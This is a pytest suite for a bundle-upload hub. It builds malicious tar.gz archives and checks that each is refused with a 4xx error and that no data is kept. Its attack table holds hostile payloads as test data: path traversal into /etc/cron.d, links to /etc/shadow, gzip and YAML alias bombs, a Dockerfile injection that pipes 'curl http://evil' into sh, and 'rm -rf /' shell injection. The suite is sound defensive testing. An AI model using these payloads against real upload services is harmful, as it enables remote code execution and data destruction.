"""One test per way a stranger's bundle can attack the hub. Each must answer 4xx with a
body naming the problem, and leave the database and the artifact storage unchanged."""

import gzip
import io
import tarfile

import pytest

from .conftest import catalog_state, manifest_member, regular, tar_gz


def _link(name: str, target: str, kind: bytes) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info, None


def _device(name: str, kind: bytes) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.devmajor, info.devminor = 1, 3
    return info, None


class _Zeros:
    def __init__(self, size: int):
        self.remaining = size

    def read(self, count: int = -1) -> bytes:
        count = self.remaining if count < 0 else min(count, self.remaining)
        self.remaining -= count
        return bytes(count)


def _gzip_bomb() -> bytes:
    # 200 MiB of zeros in one member compresses to about 200 KiB: far past a ratio of 50.
    raw = io.BytesIO()
    with gzip.GzipFile(fileobj=raw, mode="wb", mtime=0) as gz, tarfile.open(fileobj=gz, mode="w") as tar:
        info, data = manifest_member()
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
        zeros = tarfile.TarInfo("zeros.bin")
        zeros.size = 200 * 1024 * 1024
        tar.addfile(zeros, _Zeros(zeros.size))
    return raw.getvalue()


def _alias_bomb() -> bytes:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in "bcdefghi":
        previous = chr(ord(level) - 1)
        lines.append(f"{level}: &{level} [" + ",".join([f"*{previous}"] * 9) + "]")
    return tar_gz([regular("hub.yaml", "\n".join(lines).encode())])


ATTACKS = {
    "path traversal": (lambda: tar_gz([manifest_member(), regular("../../etc/cron.d/evil", b"* * * * * root id")]), 400, "points outside the bundle"),
    "absolute path": (lambda: tar_gz([manifest_member(), regular("/etc/passwd", b"root::0:0")]), 400, "is an absolute path"),
    "symlink": (lambda: tar_gz([manifest_member(), _link("secrets", "/etc/shadow", tarfile.SYMTYPE)]), 400, "is a link"),
    "hard link": (lambda: tar_gz([manifest_member(), _link("passwd", "/etc/passwd", tarfile.LNKTYPE)]), 400, "is a link"),
    "character device": (lambda: tar_gz([manifest_member(), _device("null", tarfile.CHRTYPE)]), 400, "device, pipe or other special file"),
    "fifo": (lambda: tar_gz([manifest_member(), _device("pipe", tarfile.FIFOTYPE)]), 400, "device, pipe or other special file"),
    "gzip bomb": (_gzip_bomb, 400, "expands more than 50 times"),
    "too many members": (lambda: tar_gz([manifest_member()] + [regular(f"f{i}.txt", b"x") for i in range(60)]), 400, "more than 50 entries"),
    "truncated gzip": (lambda: tar_gz([manifest_member(), regular("code.py", b"print(1)\n" * 500)])[:-40], 400, "not a complete gzip file"),
    "not a tar": (lambda: gzip.compress(b"just some text, not an archive" * 100, mtime=0), 400, "not a readable .tar.gz"),
    "not gzip at all": (lambda: b"PK\x03\x04 this is a zip file" * 10, 400, "not a complete gzip file"),
    "no hub.yaml": (lambda: tar_gz([regular("README.md", b"# hi")]), 400, "no hub.yaml at its root"),
    "hub.yaml not at the root": (lambda: tar_gz([regular("demo/hub.yaml", manifest_member()[1])]), 400, "found 'demo/hub.yaml': pack from inside that folder"),
    "yaml alias bomb": (_alias_bomb, 400, "YAML aliases"),
    "dockerfile injection in a package pin": (
        lambda: tar_gz([manifest_member(runtime={"packages": ["numpy==2.0\nRUN curl http://evil | sh"]})]),
        400,
        "runtime.packages.0",
    ),
    "shell injection in a system package": (
        lambda: tar_gz([manifest_member(runtime={"system_packages": ["curl; rm -rf /"]})]),
        400,
        "runtime.system_packages.0",
    ),
    "shell injection in a job command": (
        lambda: tar_gz([manifest_member(kind="job", serve=None, job={"command": ["sh", "-c", "id > /tmp/owned"]})]),
        400,
        "job.command.2",
    ),
    "newline in a handler": (lambda: tar_gz([manifest_member(serve={"handler": "app:M\nUSER root"})]), 400, "serve.handler"),
}


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_it_refuses_the_attack_and_keeps_nothing(attack, upload, owner_token, publish, artifact_root, settings):
    settings.BUNDLE_MAX_MEMBERS = 50
    publish(name="already-here")  # so "unchanged" is checked against a non-empty catalog
    before = catalog_state(artifact_root)
    make, expected_status, phrase = ATTACKS[attack]

    response = upload("demo-embedder", make(), owner_token)

    assert response.status_code == expected_status, response.content
    assert phrase in response.json()["detail"], response.json()
    assert catalog_state(artifact_root) == before


def test_it_refuses_a_bundle_over_the_size_cap_from_its_declared_length(upload, owner_token, artifact_root, settings):
    settings.BUNDLE_MAX_BYTES = 10_000
    before = catalog_state(artifact_root)

    response = upload("demo-embedder", b"\x1f\x8b" + b"x" * 20_000, owner_token)

    assert response.status_code == 413
    assert "the limit is 10000" in response.json()["detail"]
    assert catalog_state(artifact_root) == before


def test_it_stops_reading_once_a_stream_passes_the_cap(owner_token, publisher, artifact_root, settings):
    # A client that lies about Content-Length is caught while streaming.
    from templates_catalog.services import PublishTooLarge, template_version_publish

    settings.BUNDLE_MAX_BYTES = 10_000
    with pytest.raises(PublishTooLarge, match="larger than the limit"):
        template_version_publish(publisher=publisher, bundle=io.BytesIO(b"x" * 20_000))
    assert catalog_state(artifact_root)[1] == []


def test_it_refuses_a_bundle_whose_unpacked_size_is_over_the_cap(upload, owner_token, artifact_root, settings):
    settings.BUNDLE_MAX_UNPACKED_BYTES = 50_000
    raw = tar_gz([manifest_member(), regular("data.bin", bytes(range(256)) * 400)])

    response = upload("demo-embedder", raw, owner_token)

    assert response.status_code == 400
    assert "unpacks to more than" in response.json()["detail"]
